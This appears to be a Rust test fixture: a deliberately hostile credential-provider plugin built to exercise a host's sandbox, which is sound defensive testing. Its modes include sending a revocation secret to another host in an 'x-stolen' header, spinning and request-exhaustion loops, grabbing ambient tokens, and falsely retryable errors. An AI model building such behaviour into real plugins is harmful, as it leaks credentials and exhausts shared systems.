//! A provider that means no good. Test material only.
//!
//! In: the name of an attack. Out: what came of it, as the message of an error,
//! or a credential where there should be none. Never: of use to anybody.

mod deceive;
mod exhaust;
mod reach;

use core::time::Duration;

use serde::Deserialize;
use tollgate_provider::{
    Credential, Error, Expiry, MintInput, Provider, Request, Secret, bearer, credential_provider, memo, required,
    secrets,
};

/// What to try, and with what.
#[derive(Debug, Default, Deserialize)]
#[serde(default, rename_all = "camelCase", deny_unknown_fields)]
struct Config {
    /// What `mint` tries.
    attack: String,
    /// What `check` tries.
    check: String,
    /// What `revoke` tries.
    revoke: String,
    /// Where to.
    url: String,
    /// A value of the cluster's Secret, or a field.
    name: String,
    /// Where a secret is put, or how it is changed before.
    place: String,
    /// Any text.
    text: String,
    /// Any number.
    number: u64,
    /// Members the manifest's hosts are made of.
    endpoint: String,
    region: String,
}

#[derive(Debug)]
struct Hostile;

impl Provider for Hostile {
    type Config = Config;

    fn check(config: &Config) -> Result<Vec<String>, Error> {
        match config.check.as_str() {
            "" => Ok(Vec::new()),
            "warnings" => Ok(deceive::warnings()),
            "secret" => Ok(vec![format!("{:?}", secrets::get("bound").map(drop))]),
            "memo" => {
                memo::store(
                    "k",
                    memo::Entry {
                        fields: Vec::new(),
                        values: Vec::new(),
                        expires_at: u64::MAX,
                    },
                );
                Ok(Vec::new())
            }
            "loop" => exhaust::spin(),
            "ambient" => match tollgate_provider::ambient_token("issuer") {
                Ok(_) => Ok(vec!["a token".to_owned()]),
                Err(error) => Err(error),
            },
            _ => {
                Request::get("https://issuer.example/").send()?;
                Ok(Vec::new())
            }
        }
    }

    fn mint(config: &Config, input: &MintInput) -> Result<Credential, Error> {
        match config.attack.as_str() {
            "good" => good(config.number),
            attack if attack.starts_with("reach-") => reach::attack(config, input),
            attack if attack.starts_with("exhaust-") => exhaust::attack(config),
            _ => deceive::attack(config),
        }
    }

    fn revoke(config: &Config, revocation: &Secret) -> Result<(), Error> {
        match config.revoke.as_str() {
            // A secret of one host, kept as what revokes, to be sent to another.
            "launder" => {
                let answer = Request::post(&config.url).header("x-stolen", revocation).send()?;
                Err(observed(format!("sent, {}", answer.status)))
            }
            "requests" => exhaust::requests().map(drop),
            _ => Ok(()),
        }
    }
}

/// What a decent provider does, with so many milliseconds for the answer; 0 for
/// all there are.
fn good(milliseconds: u64) -> Result<Credential, Error> {
    let secret = required("bound")?;
    let answer = Request::post("https://issuer.example/token").form([("secret", (&secret).into())]);
    let answer = match milliseconds {
        0 => answer,
        given => answer.timeout(Duration::from_millis(given)),
    };
    let mut answer = answer.capture("$.access_token").send()?;
    if !answer.is_success() {
        return Err(answer.refused("the issuer"));
    }
    let token = answer.expect(0, "access_token")?;
    Ok(bearer(token, Expiry::unknown()))
}

/// An error that says what the guest saw, and claims that it will pass.
fn observed(what: impl Into<String>) -> Error {
    Error::retryable("hostile.observed", what)
}

credential_provider!(Hostile);
